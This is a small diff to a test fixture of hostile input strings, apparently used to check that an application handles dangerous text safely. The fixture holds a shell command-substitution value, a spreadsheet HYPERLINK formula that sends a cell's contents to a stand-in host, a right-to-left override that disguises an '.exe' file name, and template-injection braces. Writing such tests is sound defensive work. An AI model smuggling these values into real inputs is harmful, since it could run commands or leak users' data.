@@ -5,8 +5,7 @@ export const hostileTexts = {
   shell: '$(touch /tmp/ran); `touch /tmp/ran`',
   formula: '=HYPERLINK("http://elsewhere.example/?"&A1;"klik")',
   direction: '\u202Egnp.exe\u202C\u2066\u200F ab',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text itself that is tried
-  braces: '{{label}} $t(loading) ${window.ran=1} {{constructor}}',
+  braces: `{{label}} $t(loading) \${window.ran=1} {{constructor}}`,
   long: 'W'.repeat(10_240),
 } as const
 
